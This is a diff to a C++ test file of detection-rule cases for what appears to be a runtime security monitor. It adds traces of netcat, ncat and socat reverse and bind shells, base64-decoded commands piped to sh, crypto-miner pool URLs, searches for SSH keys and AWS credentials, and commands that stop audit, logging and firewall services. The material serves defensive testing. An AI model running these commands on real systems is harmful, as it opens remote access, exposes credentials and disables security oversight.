@@ -30,6 +30,7 @@ std::vector<RuleCase> process_cases()
 		 [](Trace &trace) {
 			 trace.spawn(program(trace, "loader"), Process("3").path("/proc/self/fd/3"));
 			 trace.spawn(program(trace, "runc"), Process("runc:[2:INIT]").path("memfd:runc").from_memfd());
+			 trace.spawn(program(trace, "podman"), Process("catatonit").path("memfd:init").from_memfd());
 		 }},
 
 		{"execute_below_dev",
@@ -49,19 +50,27 @@ std::vector<RuleCase> process_cases()
 
 		{"execute_below_tmp",
 		 "Notice",
-		 [](Trace &trace) { trace.spawn(alice_shell(trace), Process("a.out").path("/tmp/a.out")); },
+		 [](Trace &trace) {
+			 trace.spawn(alice_shell(trace), Process("a.out").path("/tmp/a.out"));
+			 trace.spawn(alice_shell(trace), Process("a.out").path("/var/tmp/a.out"));
+		 },
 		 {"user=alice", "executable=/tmp/a.out"},
 		 [](Trace &trace) {
 			 trace.spawn(alice_shell(trace), Process("a.out").path("/home/alice/tmp/a.out"));
 			 trace.spawn(program(trace, "dpkg"), Process("prerm").path("/tmp/prerm"));
-		 }},
+		 },
+		 2},
 
 		{"bind_program_to_netcat",
 		 "Critical",
 		 [](Trace &trace) {
 			 const Pid parent = root_shell(trace);
 			 trace.spawn(parent, Process("nc").args({"-l", "-p", "9001", "-e", "/bin/bash"}));
+			 trace.spawn(parent, Process("nc").args({"-c", "/bin/bash", "203.0.113.9", "9001"}));
+			 trace.spawn(parent, Process("ncat").args({"--exec", "/bin/bash", "-l", "9001"}));
+			 trace.spawn(parent, Process("ncat").args({"--sh-exec", "id", "-l", "9001"}));
 			 trace.spawn(parent, Process("socat").args({"TCP-LISTEN:9001", "EXEC:/bin/sh"}));
+			 trace.spawn(parent, Process("socat").args({"TCP-LISTEN:9001", "SYSTEM:id"}));
 		 },
 		 {"command=nc -l -p 9001 -e /bin/bash", "parent=bash"},
 		 [](Trace &trace) {
@@ -69,39 +78,49 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(parent, Process("nc").args({"-l", "-p", "9001"}));
 			 trace.spawn(parent, Process("grep").args({"-e", "/bin/bash", "nc"}));
 		 },
-		 2},
+		 6},
 
 		{"run_encoded_commands",
 		 "Error",
 		 [](Trace &trace) {
-			 trace.spawn(root_shell(trace),
-				     Process("sh").path("/bin/sh").args({"-c", "echo aWQK | base64 -d | sh"}));
+			 const Pid parent = root_shell(trace);
+			 for (const char *decode : {"-d", "--decode"})
+				 trace.spawn(parent,
+					     Process("sh").path("/bin/sh").args(
+						     {"-c", "echo aWQK | base64 " + std::string(decode) + " | sh"}));
 		 },
 		 {"base64 -d", "parent=bash"},
 		 [](Trace &trace) {
 			 const Pid parent = root_shell(trace);
 			 trace.spawn(parent, Process("sh").path("/bin/sh").args({"-c", "tar c . | base64"}));
+			 trace.spawn(parent, Process("sh").path("/bin/sh").args({"-c", "base64 -d file"}));
 			 trace.spawn(parent, Process("base64").args({"-d", "file"}));
-		 }},
+		 },
+		 2},
 
 		{"run_crypto_miner",
 		 "Critical",
 		 [](Trace &trace) {
-			 trace.spawn(root_shell(trace),
-				     Process("worker").args({"-o", "stratum+tcp://pool.example:3333"}));
+			 for (const std::string protocol : {"stratum+tcp", "stratum+ssl", "stratum2+tcp"})
+				 trace.spawn(root_shell(trace),
+					     Process("worker").args({"-o", protocol + "://pool.example:3333"}));
 		 },
 		 {"stratum+tcp://pool.example:3333"},
 		 [](Trace &trace) {
 			 trace.spawn(root_shell(trace), Process("worker").args({"-o", "https://pool.example"}));
 			 trace.spawn(root_shell(trace), Process("worker").args({"-o", "stratum+tcp://x"}), -ENOENT);
-		 }},
+		 },
+		 3},
 
 		{"search_for_credentials",
 		 "Warning",
 		 [](Trace &trace) {
 			 const Pid parent = alice_shell(trace);
-			 trace.spawn(parent, Process("grep").args({"-r", "BEGIN RSA PRIVATE KEY", "/home"}));
-			 trace.spawn(parent, Process("find").args({"/", "-name", "id_rsa*"}));
+			 for (const char *text : {"BEGIN RSA PRIVATE KEY", "RSA PRIVATE", "BEGIN OPENSSH"})
+				 trace.spawn(parent, Process("grep").args({"-r", text, "/home"}));
+			 for (const char *name : {"id_rsa*", "id_ed25519", "id_ecdsa"})
+				 trace.spawn(parent, Process("find").args({"/", "-name", name}));
+			 trace.spawn(parent, Process("find").args({"/home", "-path", "*/.aws/credentials"}));
 		 },
 		 {"user=alice", "command=grep -r BEGIN RSA PRIVATE KEY /home"},
 		 [](Trace &trace) {
@@ -110,7 +129,7 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(parent, Process("find").args({"/", "-name", "*.c"}));
 			 trace.spawn(parent, Process("ssh").args({"-i", "id_rsa", "host"}));
 		 },
-		 2},
+		 7},
 
 		{"stop_security_service",
 		 "Warning",
@@ -118,7 +137,13 @@ std::vector<RuleCase> process_cases()
 			 const Pid parent = root_shell(trace);
 			 trace.spawn(parent, Process("systemctl").args({"stop", "auditd"}));
 			 trace.spawn(parent, Process("service").args({"rsyslog", "stop"}));
+			 trace.spawn(parent, Process("systemctl").args({"disable", "apparmor"}));
+			 trace.spawn(parent, Process("systemctl").args({"mask", "systemd-journald"}));
+			 for (const char *service : {"falco", "firewalld"})
+				 trace.spawn(parent, Process("service").args({service, "stop"}));
 			 trace.spawn(parent, Process("setenforce").args({"0"}));
+			 trace.spawn(parent, Process("auditctl").args({"-D"}));
+			 trace.spawn(parent, Process("auditctl").args({"-e", "0"}));
 			 trace.spawn(parent, Process("iptables").args({"-F"}));
 		 },
 		 {"command=systemctl stop auditd"},
@@ -127,9 +152,10 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(parent, Process("systemctl").args({"status", "auditd"}));
 			 trace.spawn(parent, Process("systemctl").args({"stop", "cups"}));
 			 trace.spawn(parent, Process("setenforce").args({"1"}));
+			 trace.spawn(parent, Process("auditctl").args({"-l"}));
 			 trace.spawn(parent, Process("iptables").args({"-L"}));
 		 },
-		 4},
+		 10},
 
 		{"server_spawned_shell",
 		 "Error",
@@ -137,6 +163,7 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(trace.process(Process("httpd").user("daemon")), shell("sh"));
 			 trace.spawn(trace.process(Process("mysqld").user("mysql").container(kContainer)),
 				     shell("bash"));
+			 trace.spawn(program(trace, "exim4"), shell("sh"));
 		 },
 		 {"user=daemon", "shell=sh -c id", "parent=httpd"},
 		 [](Trace &trace) {
@@ -145,7 +172,7 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(httpd, shell("sh"), -EACCES);
 			 trace.spawn(program(trace, "make"), shell("sh"));
 		 },
-		 2},
+		 3},
 
 		{"database_spawned_process",
 		 "Warning",
@@ -153,6 +180,7 @@ std::vector<RuleCase> process_cases()
 		 {"user=mysql", "command=wget", "parent=mysqld"},
 		 [](Trace &trace) {
 			 trace.spawn(program(trace, "postgres"), Process("postgres"));
+			 trace.spawn(program(trace, "elasticsearch"), Process("java"));
 			 trace.spawn(program(trace, "mysqld_safe"), Process("wget"));
 		 }},
 
@@ -166,6 +194,8 @@ std::vector<RuleCase> process_cases()
 			 trace.spawn(root_shell(trace), Process("id").args({"useradd"}));
 			 const Pid script = trace.spawn(program(trace, "dpkg"), shell("sh"));
 			 trace.spawn(script, Process("adduser").args({"--system", "_daemon"}));
+			 for (const char *manager : {"rpm", "puppet"})
+				 trace.spawn(program(trace, manager), Process("useradd").args({"-r", "_daemon"}));
 		 }},
 
 		{"package_manager_in_container",
@@ -204,8 +234,11 @@ std::vector<RuleCase> process_cases()
 		 [](Trace &trace) {
 			 trace.spawn(program(trace, "app"), shell("bash"));
 			 trace.spawn(trace.process(Process("bash").container(kContainer)), shell("bash"));
-			 trace.spawn(program(trace, "docker"), shell("bash").container(kContainer));
+			 for (const char *parent : {"docker", "systemd", "runc:[1:CHILD]"})
+				 trace.spawn(program(trace, parent), shell("bash").container(kContainer));
 			 trace.spawn(trace.process(Process("app").container(kContainer)), Process("ls"));
+			 // Whose child it is, nobody knows: a process that was there before the recording.
+			 trace.exec(trace.process(Process("app").container(kContainer).parent(77)), shell("bash"));
 		 }},
 
 		{"shell_in_container",
